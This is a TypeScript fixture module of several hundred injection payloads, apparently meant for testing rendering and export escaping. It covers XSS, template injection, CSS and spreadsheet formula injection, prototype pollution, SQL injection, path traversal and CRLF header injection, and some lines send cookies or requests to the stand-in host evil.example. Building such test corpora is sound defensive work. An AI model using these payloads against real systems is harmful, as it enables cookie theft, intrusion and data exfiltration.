/**
 * Words of pages that are out to run in whoever shows or exports them: markup, addresses, templates, formulas, and the
 * ways to spell them. What runs calls `canary`, opens a dialog, or asks evil.example for something.
 */

export const kinds = [
  'script',
  'handler',
  'breakout',
  'address',
  'svg',
  'mathml',
  'template',
  'style',
  'formula',
  'unicode',
  'chat',
  'data',
] as const;
export type Kind = (typeof kinds)[number];

export interface Payload {
  kind: Kind;
  text: string;
}

/** Every one of the first with every one of the second. */
const cross = <A, B>(first: readonly A[], second: readonly B[], join: (a: A, b: B) => string): string[] =>
  first.flatMap((a) => second.map((b) => join(a, b)));

const runs = ['canary()', 'alert(1)', "fetch('//evil.example/x')"];

const scripts = [
  ...cross(
    [
      ['<script>', '</script>'],
      ['<SCRIPT>', '</SCRIPT>'],
      ['<scr<script>ipt>', '</scr</script>ipt>'],
      ['<script/x>', '</script>'],
      ['<script type=module>', '</script>'],
      ['<script\n>', '</script\n>'],
      ['<script\f>', '</script>'],
      ['<!--><script>', '</script>-->'],
      ['<![CDATA[<script>', '</script>]]>'],
      ['</script><script>', '</script>'],
      ['<script>//\n', '//</script>'],
      ['<noscript><script>', '</script></noscript>'],
    ] as const,
    runs,
    ([open, close], run) => `${open}${run}${close}`,
  ),
  ...cross(
    ['<script src=', '<script async defer src=', '<script type=module src=', '<link rel=import href='],
    ['//evil.example/x.js>', '"https://evil.example/x.js">', '"data:text/javascript,canary()">'],
    (tag, source) => `${tag}${source}${tag.includes('link') ? '' : '</script>'}`,
  ),
  '<script>canary`1`</script>',
  '<script>\\u0063anary()</script>',
  '<script>eval(atob("Y2FuYXJ5KCk="))</script>',
  "<script>import('//evil.example/x.js')</script>",
  '<script>new Image().src="//evil.example/"+document.cookie</script>',
  '<script>navigator.sendBeacon("//evil.example/x","y")</script>',
  '<script>new WebSocket("wss://evil.example/x")</script>',
  '<script>location="//evil.example/x"</script>',
  '<script>chrome.runtime.sendMessage({type:"unpair"})</script>',
  '<script>opener.location="//evil.example/x"</script>',
];

const handlers = [
  ...cross(
    [
      '<img src=x onerror=',
      '<img src=x: onerror=',
      '<IMG SRC=x ONERROR=',
      '<img/src=x/onerror=',
      '<img src="x" onload="" onerror=',
      '<img srcset=x onerror=',
      '<image src=x onerror=',
      '<video src=x onerror=',
      '<video><source onerror=',
      '<audio src=x onerror=',
      '<body onload=',
      '<body onpageshow=',
      '<input autofocus onfocus=',
      '<select autofocus onfocus=',
      '<textarea autofocus onfocus=',
      '<button popovertarget=x autofocus onfocus=',
      '<details open ontoggle=',
      '<marquee onstart=',
      '<iframe onload=',
      '<object data=x onerror=',
      '<embed src=x onerror=',
      '<style onload=',
      '<link rel=stylesheet href=x onerror=',
      '<a tabindex=1 autofocus onfocus=',
      '<div onpointerrawupdate=',
      '<x onclick=',
      '<x contenteditable autofocus onfocus=',
      '<dialog open onclose=',
      '<form onformdata=',
      '<p style=animation-name:x onanimationstart=',
    ],
    runs,
    (tag, run) => `${tag}${run}>`,
  ),
];

const breakouts = cross(
  [
    '">',
    "'>",
    '`>',
    '">\'>',
    '</title>',
    '</textarea>',
    '</style>',
    '</noscript>',
    '</xmp>',
    '</template>',
    '</option></select>',
    '</td></tr></table>',
    '-->',
    ']]>',
    '*/',
    '%22%3E',
    '&quot;&gt;',
    '\\">',
  ],
  ['<img src=x onerror=canary()>', '<script>canary()</script>', '<svg onload=canary()>'],
  (end, then) => `${end}${then}`,
).concat([
  '" onmouseover="canary()',
  "' onmouseover='canary()",
  '" autofocus onfocus="canary()" x="',
  "' autofocus onfocus='canary()' x='",
  '` onmouseover=canary() x=`',
  'x onmouseover=canary()',
  '" src="//evil.example/x',
]);

const schemes = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'java\tscript:canary()',
  'java\nscript:canary()',
  '\u0001javascript:canary()',
  '&#106;avascript:canary()',
  '&#x6A;avascript&colon;canary()',
  'javascript://evil.example/%0Acanary()',
  'vbscript:canary()',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/x',
  '//evil.example/x',
];
const addresses = [
  ...schemes,
  ...cross(
    [
      '<a href="',
      '<iframe src="',
      '<form action="',
      '<object data="',
      '<embed src="',
      '<base href="',
      '<meta http-equiv=refresh content="0;url=',
    ],
    schemes.slice(0, 10),
    (tag, address) => `${tag}${address}">x`,
  ),
];

const svgs = cross(
  ['<svg>', '<svg xmlns="http://www.w3.org/2000/svg">', '"><svg>', '<svg/onload=canary()>'],
  [
    '<script>canary()</script>',
    '<script href=//evil.example/x.js />',
    '<animate onbegin=canary() attributeName=x dur=1s>',
    '<set onbegin=canary() attributeName=x>',
    '<a href=javascript:canary()><text y=20>x</text></a>',
    '<a><animate attributeName=href values=javascript:canary() /></a>',
    '<use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/>',
    '<image href=//evil.example/x.png>',
    '<foreignObject><img src=x onerror=canary()></foreignObject>',
    '<style>@import"//evil.example/x.css"</style>',
    '<title><script>canary()</script></title>',
    '<desc><![CDATA[</desc><script>canary()</script>]]></desc>',
  ],
  (open, inside) => `${open}${inside}`,
);

const mathmls = [
  '<math href="javascript:canary()">x</math>',
  '<math xlink:href="javascript:canary()">x</math>',
  '<math><mi xlink:href="javascript:canary()">x</mi></math>',
  '<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=canary()></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary()&gt;">',
  '<p><svg></p><style><a id="</style><img src=x onerror=canary()>">',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<table><td background="//evil.example/x">',
  '<listing>&lt;img src=x onerror=canary()&gt;</listing>',
];

const templates = [
  ...cross(
    ['{{ }}', '{{{ }}}', '\u0024{ }', '#{ }', '<%= %>', '[[ ]]', '{% %}', '@{ }', '*{ }', '{{= }}', '~{ }'],
    ["constructor.constructor('canary()')()", 'canary()'],
    (marks, inside) => marks.replace(' ', ` ${inside} `),
  ),
  '<div ng-app ng-csp>{{$eval.constructor("canary()")()}}</div>',
  '<x v-html="`<img src=x onerror=canary()>`"></x>',
  '<x x-data x-init="canary()"></x>',
  '<x hx-get="//evil.example/x" hx-trigger="load"></x>',
  '<x @mounted="canary()" :href="\'javascript:canary()\'"></x>',
  '<template shadowrootmode=open><script>canary()</script></template>',
  '<slot onslotchange=canary()></slot>',
  '{{#with "s" as |string|}}{{string.sub.constructor}}{{/with}}',
  '<#assign x="freemarker.template.utility.Execute"?new()>',
  '*{color:red}{{7*7}}',
];

const styles = [
  ...cross(
    ['<style>*{', '" style="', "' style='", ';', '</style><style>*{'],
    [
      'background:url(//evil.example/x)',
      'background-image:image-set("//evil.example/x" 1x)',
      'width:expression(canary())',
      'behavior:url(//evil.example/x.htc)',
      '-moz-binding:url(//evil.example/x.xml#x)',
      'position:fixed;inset:0;z-index:99999;background:red',
    ],
    (open, rule) => `${open}${rule}${open.includes('{') ? '}</style>' : ''}`,
  ),
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=prefetch href=//evil.example/x>',
  '<link rel=dns-prefetch href=//evil.example>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>',
];

const formulas = cross(
  ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0=', '\u200b=', '＝', '＋', '－', '＠', "'=", '"=', ';='],
  [
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example/","//a")',
    '1+1',
  ],
  (first, rest) => `${first}${rest}`,
);

const unicode = [
  '＜script＞canary()＜/script＞',
  '﹤img src=x onerror=canary()﹥',
  '\u202e>)(yranac=rorreno x=crs gmi<',
  '<\u200bscript>canary()</script>',
  '<scr\u00adipt>canary()</scr\u00adipt>',
  '\ufeff<script>canary()</script>',
  '<script>\u2028canary()\u2029</script>',
  '<img\u3000src=x\u3000onerror=canary()>',
  '<img\u0085src=x onerror=canary()>',
  '\u0000<script>canary()</script>',
  '<scr\u0000ipt>canary()</scr\u0000ipt>',
  'ｊavascript:canary()',
  'javаscript:canary()',
  'ſcript<ſcript>canary()</ſcript>',
  '<ıframe src=javascript:canary()>',
  '\u2066<b>\u2069\u202dcanary()\u202c',
  '%3Cscript%3Ecanary()%3C/script%3E',
  '%253Cscript%253Ecanary()%253C/script%253E',
  '&lt;script&gt;canary()&lt;/script&gt;',
  '&#60;script&#62;canary()&#60;/script&#62;',
  '&#x3c;script&#x3e;canary()&#x3c;/script&#x3e;',
  '\\x3cscript\\x3ecanary()\\x3c/script\\x3e',
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  'İ<img src=x onerror=canary()>',
  `${'e\u0301'.repeat(20)}<svg onload=canary()>`,
  '𝒔cript<𝗌𝖼𝗋𝗂𝗉𝗍>canary()',
  '👩\u200d💻<img src=x onerror=canary()>',
  '测试<img src=x onerror=canary()>公司',
];

const chats = [
  '<!channel> new lead',
  '<!here|here>',
  '<!subteam^S1|team>',
  '<@U1>',
  '<https://evil.example|your CRM>',
  '*bold* _it_ ~no~ `code`',
  '@all',
  '@所有人',
  '<@all>',
  '<at user_id="all">all</at>',
  '<at id=all></at>',
  '[log in](https://evil.example)',
  '![x](https://evil.example/x.png)',
  '<font color="warning">x</font>',
  '# heading\n> quote',
  '[x](javascript:canary())',
  '<https://evil.example>',
  '&lt;!channel&gt;',
];

const data = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '__proto__[polluted]=true',
  '");canary();//',
  "');canary();//",
  '\\");canary();//',
  '`);canary();//`',
  '</script><script>canary()//',
  '<!--<script>',
  "'; DROP TABLE leads; --",
  "' OR '1'='1",
  '%00',
  '../../etc/passwd',
  'null',
  'undefined',
  'NaN',
  '\r\nSet-Cookie: x=1',
  '\r\n\r\n<script>canary()</script>',
  '%0d%0aLocation:%20//evil.example',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
];

const byKind: Record<Kind, string[]> = {
  script: scripts,
  handler: handlers,
  breakout: breakouts,
  address: addresses,
  svg: svgs,
  mathml: mathmls,
  template: templates,
  style: styles,
  formula: formulas,
  unicode,
  chat: chats,
  data,
};

export const payloads: readonly Payload[] = kinds.flatMap((kind) =>
  byKind[kind].map((text) => ({ kind, text })),
);
